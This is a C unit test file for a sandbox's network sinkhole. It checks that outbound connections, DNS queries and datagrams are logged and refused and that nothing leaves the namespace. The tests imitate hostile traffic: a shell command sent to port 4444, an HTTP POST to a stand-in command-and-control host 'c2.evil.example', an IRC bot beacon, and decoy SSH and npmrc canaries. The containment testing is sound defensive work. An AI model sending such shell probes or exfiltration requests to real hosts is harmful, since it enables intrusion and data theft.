/* The sinkhole, from inside: whatever address and port a stranger calls, we are who answers, the right event
 * says so, and nothing reaches the world. */
#include "sinkhole_cases.h"

#include <arpa/inet.h>
#include <errno.h>
#include <ifaddrs.h>
#include <net/if.h>
#include <poll.h>
#include "sandbox/decoys_parts.h"

#include <setjmp.h>
#include <signal.h>
#include <stdarg.h>
#include <stdint.h>
#include <string.h>
#include <cmocka.h>

static const char *const needles[] = { CANARY, "qm7xt2vkp9lwrz4ncy8shd3b", NULL };
static const char *const more_needles[] = { OTHER_CANARY, NULL };
static struct sp_decoy decoy_items[] = { { .id = "ssh-key", .needles = needles },
                                         { .id = "npmrc", .needles = more_needles } };
static struct sp_arena decoy_arena;
struct sp_decoys test_decoys = { .items = decoy_items, .count = 2, .arena = &decoy_arena };

void
open_or_skip(struct room *room, const struct room_wishes *wishes)
{
    const char *why;
    if (!room_open(room, wishes, &why)) {
        print_message("skipped: no network namespace can be made here: %s\n", why);
        skip();
    }
    if (*room->missing && !wishes->without_nftables) {
        print_message("skipped: %s\n", room->missing);
        room_close(room);
        skip();
    }
}

void
open_registry(struct room *room)
{
    open_or_skip(room,
                 &(struct room_wishes){ .options = { .net = SP_NET_REGISTRY, .decoys = &test_decoys } });
}

void
open_sinkhole(struct room *room)
{
    open_or_skip(room,
                 &(struct room_wishes){ .options = { .net = SP_NET_SINKHOLE, .decoys = &test_decoys } });
}

const struct seen_event *
check_seen(struct room *room, enum sp_event_kind kind, const char *subject, uint16_t port, const char *detail,
           int line)
{
    const struct seen_event *found = room_find(room, kind, subject, port, detail);
    for (unsigned i = 0; !found && i < atomic_load(&room->seen->count); i++) {
        const struct seen_event *at = &room->seen->items[i];
        print_message("seen: %s %s:%u \"%s\"\n", sp_event_kind_name(at->kind), at->subject, at->port,
                      at->detail);
    }
    if (!found)
        fail_msg("line %d: no event %s %s:%u \"%s\"", line, sp_event_kind_name(kind), subject, port,
                 detail ? detail : "");
    return found;
}

/* --- Refusing ------------------------------------------------------------------------------------------- */

static int
call_strange_ports(SP_UNUSED void *argument)
{
    int four = connect_to("1.2.3.4", 4444, SOCK_STREAM);
    CHECK(four >= 0 && say(four, "id; uname -a\n", 13) && is_refused(four));
    int six = connect_to("2001:db8::1", 31337, SOCK_STREAM);
    CHECK(six >= 0 && say(six, "\x01\x02key", 5) && is_refused(six));
    int silent = connect_to("5.6.7.8", 22, SOCK_STREAM);
    CHECK(silent >= 0 && is_refused(silent));
    int datagram = connect_to("8.8.8.8", 9999, SOCK_DGRAM),
        six_datagram = connect_to("2001:db8::2", 1, SOCK_DGRAM);
    CHECK(say(datagram, "beacon\x1b", 7) && say(six_datagram, "six", 3));
    return 0;
}

static void
every_address_and_port_is_heard_and_refused(SP_UNUSED void **state)
{
    struct room room;
    open_registry(&room);
    print_message("sp_sinkhole_open took %.2f ms\n", room.open_milliseconds);
    room_run(&room, call_strange_ports, NULL);
    const struct seen_event *shell = assert_seen(&room, SP_EVENT_CONNECTION, "1.2.3.4", 4444, "id; uname -a");
    assert_int_equal(shell->value, 0);
    assert_int_equal(shell->bytes, 13);
    assert_seen(&room, SP_EVENT_CONNECTION, "2001:db8::1", 31337, "key");
    assert_seen(&room, SP_EVENT_CONNECTION, "5.6.7.8", 22, "nothing was said");
    const struct seen_event *beacon = assert_seen(&room, SP_EVENT_DATAGRAM, "8.8.8.8", 9999, "beacon");
    assert_null(strchr(beacon->detail, 0x1b));
    assert_int_equal(beacon->bytes, 7);
    assert_seen(&room, SP_EVENT_DATAGRAM, "2001:db8::2", 1, "six");
    room_close(&room);
}

static int
call_by_name(SP_UNUSED void *argument)
{
    char four[46], six[46], again[46];
    CHECK(resolve("C2.Evil.example", AF_INET, four) && resolve("c2.evil.example", AF_INET6, six));
    CHECK(resolve("c2.evil.example", AF_INET, again) && !strcmp(four, again));
    int web = connect_to(four, 80, SOCK_STREAM);
    static const char post[] =
        "POST /collect HTTP/1.1\r\nHost: c2.evil.example\r\nContent-Length: 4\r\n\r\nabcd";
    CHECK(say(web, post, strlen(post)) && is_refused(web));
    unsigned char hello[2048];
    size_t length = write_hello(hello, sizeof(hello), "front.example");
    int tls = connect_to(six, 8443, SOCK_STREAM);
    for (size_t i = 0; i < 40; i++) { /* a hello that trickles in is still read */
        CHECK(say(tls, hello + i, 1));
        usleep(1000);
    }
    CHECK(say(tls, hello + 40, length - 40) && is_refused(tls));
    return 0;
}

static void
who_was_meant_is_told(SP_UNUSED void **state)
{
    struct room room;
    open_registry(&room);
    room_run(&room, call_by_name, NULL);
    assert_seen(&room, SP_EVENT_NAME, "c2.evil.example", 0, "A");
    assert_seen(&room, SP_EVENT_CONNECTION, "c2.evil.example", 80,
                "POST /collect HTTP/1.1, Host c2.evil.example");
    assert_seen(&room, SP_EVENT_CONNECTION, "c2.evil.example", 8443, "TLS to front.example");
    room_close(&room);
}

/* --- Names ---------------------------------------------------------------------------------------------- */

static int
ask_names(SP_UNUSED void *argument)
{
    unsigned char reply[512];
    CHECK(ask("127.0.0.1", "one.example", 1, reply) == 45 && reply[3] == 0x80 && reply[7] == 1);
    CHECK(ask("127.0.0.53", "two.example", 28, reply) == 57);
    CHECK(ask("::1", "one.example", 16, reply) == 29 && reply[7] == 0); /* TXT: nothing there */
    CHECK(ask("2001:4860:4860::8888", "one.example", 15, reply) == 29);
    CHECK(ask("8.8.8.8", "4.3.2.1.in-addr.arpa", 12, reply) > 12 && (reply[3] & 15) == 3);
    char address[46];
    CHECK(resolve("localhost", AF_INET, address) && !strcmp(address, "127.0.0.1"));

    unsigned char message[600] = { 0 };
    size_t length = write_question(message + 2, "tcp.example", 1);
    message[1] = (unsigned char)length;
    int tcp = connect_to("1.1.1.1", 53, SOCK_STREAM);
    CHECK(say(tcp, message, 1) && say(tcp, message + 1, length + 1) && recv(tcp, reply, 512, 0) == 2 + 45);
    CHECK(reply[1] == 45 && reply[2] == 0x12);

    /* with EDNS, from a socket that is not connected */
    static const unsigned char edns[11] = { 0, 0, 41, 16, 0 };
    length = write_question(message, "edns.example", 1);
    memcpy(message + length, edns, sizeof(edns));
    message[11] = 1;
    int fd = socket(AF_INET, SOCK_DGRAM, 0);
    struct timeval patience = { .tv_sec = 5 };
    setsockopt(fd, SOL_SOCKET, SO_RCVTIMEO, &patience, sizeof(patience));
    struct sockaddr_in to = { .sin_family = AF_INET, .sin_port = htons(53) }, from;
    socklen_t size = sizeof(from);
    inet_pton(AF_INET, "4.4.4.4", &to.sin_addr);
    sendto(fd, message, length + sizeof(edns), 0, (struct sockaddr *)&to, sizeof(to));
    CHECK(recvfrom(fd, reply, 512, 0, (struct sockaddr *)&from, &size) == 46);
    CHECK(from.sin_addr.s_addr == to.sin_addr.s_addr && from.sin_port == to.sin_port);
    return 0;
}

static int
ask_hostile_names(SP_UNUSED void *argument)
{
    unsigned char message[600], reply[512];
    int fd = connect_to("8.8.8.8", 53, SOCK_DGRAM);
    size_t length = write_question(message, "a.example", 1);
    for (size_t cut = 0; cut < length; cut++)
        send(fd, message, cut, 0);
    message[12] = 0xc0; /* a pointer to itself */
    message[13] = 12;
    send(fd, message, length, 0);
    memset(message + 12, 63, 500); /* a name without an end */
    send(fd, message, 512, 0);
    length = write_question(message, "a.example", 1);
    message[5] = 2; /* two questions, one there */
    send(fd, message, length, 0);
    message[5] = 1;
    message[2] |= 0x80; /* an answer */
    send(fd, message, length, 0);
    CHECK(ask("8.8.8.8", "alive\x07\x1b.example", 1, reply) > 0);
    int tcp = connect_to("8.8.8.8", 53, SOCK_STREAM);
    CHECK(say(tcp, "\xff\xff garbage", 10) && is_refused(tcp));
    return 0;
}

static void
names_are_answered(SP_UNUSED void **state)
{
    struct room room;
    open_registry(&room);
    room_run(&room, ask_names, NULL);
    assert_seen(&room, SP_EVENT_NAME, "two.example", 0, "AAAA");
    assert_seen(&room, SP_EVENT_NAME, "one.example", 0, "TXT");
    assert_seen(&room, SP_EVENT_NAME, "tcp.example", 0, "A");
    room_run(&room, ask_hostile_names, NULL);
    assert_seen(&room, SP_EVENT_NAME, "alive\\007\\027.example", 0, "A");
    assert_seen(&room, SP_EVENT_CONNECTION, "8.8.8.8", 53, NULL);
    room_close(&room);
}

/* --- The sandbox's own business ------------------------------------------------------------------------- */

static int
serve_itself(SP_UNUSED void *argument)
{
    static const struct {
        const char *bind, *call;
        uint16_t port;
    } servers[] = { { "127.0.0.1", "127.0.0.1", 8080 },
                    { "0.0.0.0", "127.0.0.1", 4444 },
                    { "::1", "::1", 8443 },
                    { "127.83.80.1", "127.83.80.1", 4873 },
                    { "0.0.0.0", "127.1.2.3", 443 } };
    for (size_t i = 0; i < SP_COUNT(servers); i++) {
        for (int type = SOCK_STREAM; type <= SOCK_DGRAM; type++) {
            uint16_t port = servers[i].port;
            char byte;
            int server = listen_on(servers[i].bind, &port, type);
            int client = connect_to(servers[i].call, port, type);
            CHECK(server >= 0 && client >= 0 && say(client, "m", 1));
            int other = type == SOCK_STREAM ? accept(server, NULL, NULL) : server;
            CHECK(recv(other, &byte, 1, 0) == 1 && byte == 'm');
            close(other);
            close(client);
            close(server);
        }
    }
    return 0;
}

static void
servers_on_loopback_and_the_proxy_address_are_not_ours(SP_UNUSED void **state)
{
    struct room room;
    open_registry(&room);
    room_run(&room, serve_itself, NULL);
    room_stop(&room);
    assert_int_equal(atomic_load(&room.seen->count), 0);
    room_close(&room);
}

struct outside {
    char addresses[8][46];
    unsigned count;
    uint16_t port;
};

static int
call_outside(void *argument)
{
    const struct outside *outside = argument;
    for (unsigned i = 0; i < outside->count; i++) {
        int fd = connect_to(outside->addresses[i], outside->port, SOCK_STREAM);
        if (fd >= 0)
            say(fd, "out", 3);
        int datagram = connect_to(outside->addresses[i], outside->port, SOCK_DGRAM);
        if (datagram >= 0)
            say(datagram, "out", 3);
    }
    return 0;
}

static void
nothing_leaves(SP_UNUSED void **state)
{
    struct outside outside = { 0 };
    int tcp = listen_on("0.0.0.0", &outside.port, SOCK_STREAM);
    int udp = listen_on("0.0.0.0", &outside.port, SOCK_DGRAM);
    assert_true(tcp >= 0 && udp >= 0);
    struct ifaddrs *all;
    assert_int_equal(getifaddrs(&all), 0);
    for (struct ifaddrs *at = all; at; at = at->ifa_next)
        if (at->ifa_addr && at->ifa_addr->sa_family == AF_INET && outside.count < 8)
            inet_ntop(AF_INET, &((struct sockaddr_in *)at->ifa_addr)->sin_addr,
                      outside.addresses[outside.count++], 46);
    freeifaddrs(all);
    struct room room;
    open_sinkhole(&room);
    room_run(&room, call_outside, &outside);
    struct pollfd either[] = { { tcp, POLLIN, 0 }, { udp, POLLIN, 0 } };
    assert_int_equal(poll(either, 2, 200), 0);
    /* the listener would have heard: the same call from here does reach it */
    assert_true(say(connect_to("127.0.0.1", outside.port, SOCK_DGRAM), "in", 2));
    assert_int_equal(poll(either, 2, 2000), 1);
    room_close(&room);
    close(tcp);
    close(udp);
}

/* --- Limits and the end --------------------------------------------------------------------------------- */

/* How many of the calls were refused; waits until they are EXPECTED. */
static unsigned
count_closed(const int *fds, size_t count, unsigned expected)
{
    unsigned closed = 0;
    for (int wait = 0; closed < expected && wait < 100; wait++) {
        closed = 0;
        for (size_t i = 0; i < count; i++) {
            struct pollfd now = { fds[i], POLLIN, 0 };
            closed += poll(&now, 1, 0) == 1;
        }
        usleep(50000);
    }
    return closed;
}

/* Whether HTTP is answered at ADDRESS, now or soon. */
static bool
is_answered(const char *address)
{
    char answer[512];
    for (int wait = 0; wait < 50; wait++) {
        int fd = connect_to(address, 80, SOCK_STREAM);
        bool answered =
            fd >= 0 && say(fd, "GET / HTTP/1.0\r\n\r\n", 18) && read_all(fd, answer, sizeof(answer)) > 0;
        close(fd);
        if (answered)
            return true;
        usleep(100000);
    }
    return false;
}

static int
call_in_crowds(SP_UNUSED void *argument)
{
    static int fds[600];
    for (size_t i = 0; i < SP_COUNT(fds); i++)
        CHECK((fds[i] = connect_to("7.7.7.7", (uint16_t)(1000 + i), SOCK_STREAM)) >= 0);
    CHECK(count_closed(fds, SP_COUNT(fds), 600 - 512) == 600 - 512);
    for (size_t i = 0; i < SP_COUNT(fds); i++)
        close(fds[i]);
    CHECK(is_answered("7.7.7.7")); /* there is room again */
    return 0;
}

static void
a_crowd_is_bounded_and_counted(SP_UNUSED void **state)
{
    struct room room;
    open_sinkhole(&room);
    room_run(&room, call_in_crowds, NULL);
    room_stop(&room);
    assert_int_equal(room_count(&room, SP_EVENT_CONNECTION), 513);
    assert_true(assert_seen(&room, SP_EVENT_DROPPED, "connections to the sinkhole", 0, NULL)->value >= 88);
    room_close(&room);
}

static int
call_more_than_descriptors(SP_UNUSED void *argument)
{
    int fds[100];
    for (size_t i = 0; i < SP_COUNT(fds); i++)
        CHECK((fds[i] = connect_to("7.7.7.7", 80, SOCK_STREAM)) >= 0);
    unsigned closed = count_closed(fds, SP_COUNT(fds), 41);
    CHECK(closed > 40 && closed < 90);
    char address[46];
    CHECK(resolve("still.example", AF_INET, address));
    for (size_t i = 0; i < SP_COUNT(fds); i++)
        close(fds[i]);
    CHECK(is_answered(address));
    return 0;
}

static void
a_server_without_descriptors_refuses_and_recovers(SP_UNUSED void **state)
{
    struct room room;
    open_or_skip(&room, &(struct room_wishes){ .options = { .net = SP_NET_SINKHOLE }, .descriptors = 64 });
    room_run(&room, call_more_than_descriptors, NULL);
    room_stop(&room);
    assert_true(assert_seen(&room, SP_EVENT_DROPPED, "connections to the sinkhole", 0, NULL)->value > 40);
    room_close(&room);
}

static int
stay(void *argument)
{
    int fd = connect_to("9.8.7.6", 6667, SOCK_STREAM);
    CHECK(say(fd, "NICK bot\r\n", 10));
    CHECK(write(*(int *)argument, "", 1) == 1);
    CHECK(is_refused(fd));
    return 0;
}

static void
the_end_tells_of_what_is_still_open(SP_UNUSED void **state)
{
    struct room room;
    int ready[2];
    char byte;
    assert_int_equal(pipe(ready), 0);
    open_sinkhole(&room);
    pid_t actor = room_start(&room, stay, &ready[1]);
    assert_int_equal(read(ready[0], &byte, 1), 1);
    room_stop(&room);
    assert_int_equal(assert_seen(&room, SP_EVENT_CONNECTION, "9.8.7.6", 6667, "NICK bot")->bytes, 10);
    room_wait(actor);
    room_close(&room);
    close(ready[0]);
    close(ready[1]);
}

static int
call_common_ports(SP_UNUSED void *argument)
{
    char answer[512], address[46];
    CHECK(resolve("api.example", AF_INET, address));
    int fd = connect_to(address, 80, SOCK_STREAM);
    CHECK(say(fd, "GET / HTTP/1.0\r\n\r\n", 18) && read_all(fd, answer, sizeof(answer)) > 0);
    CHECK(connect_to("1.2.3.4", 4444, SOCK_STREAM) < 0 && errno == ECONNREFUSED);
    fd = connect_to("162.159.200.1", 123, SOCK_DGRAM);
    CHECK(say(fd, "time?", 5) && recv(fd, answer, 100, 0) == 5);
    return 0;
}

static void
without_nftables_the_common_ports_are_heard(SP_UNUSED void **state)
{
    struct room room;
    open_or_skip(&room,
                 &(struct room_wishes){ .options = { .net = SP_NET_SINKHOLE }, .without_nftables = true });
    assert_non_null(strstr(room.missing, "common ports"));
    room_run(&room, call_common_ports, NULL);
    assert_seen(&room, SP_EVENT_CONNECTION, "api.example", 80, "GET /");
    assert_seen(&room, SP_EVENT_DATAGRAM, "162.159.200.1", 123, "time?");
    room_close(&room);
}

int
main(void)
{
    const struct CMUnitTest tests[] = {
        cmocka_unit_test(questions_are_read_strictly),
        cmocka_unit_test(hellos_are_read_whole_or_not_at_all),
        cmocka_unit_test(requests_are_read),
        cmocka_unit_test(chunked_bodies_end_where_they_end),
        cmocka_unit_test(allowed_names_match_whole_labels),
        cmocka_unit_test(only_public_addresses_are_dialled),
        cmocka_unit_test(canaries_are_found_once_in_a_stream),
        cmocka_unit_test(every_address_and_port_is_heard_and_refused),
        cmocka_unit_test(who_was_meant_is_told),
        cmocka_unit_test(names_are_answered),
        cmocka_unit_test(a_sinkhole_answers),
        cmocka_unit_test(tls_is_answered_under_the_run_s_authority),
        cmocka_unit_test(a_canary_is_found_over_writes_labels_and_datagrams),
        cmocka_unit_test(servers_on_loopback_and_the_proxy_address_are_not_ours),
        cmocka_unit_test(nothing_leaves),
        cmocka_unit_test(an_allowed_host_is_passed_through_untouched),
        cmocka_unit_test(a_crowd_is_bounded_and_counted),
        cmocka_unit_test(a_server_without_descriptors_refuses_and_recovers),
        cmocka_unit_test(the_end_tells_of_what_is_still_open),
        cmocka_unit_test(without_nftables_the_common_ports_are_heard),
    };
    signal(SIGPIPE, SIG_IGN);
    if (sp_decoys_compile(&test_decoys, NULL) < 0)
        return 1;
    return cmocka_run_group_tests_name("sinkhole", tests, NULL, NULL);
}
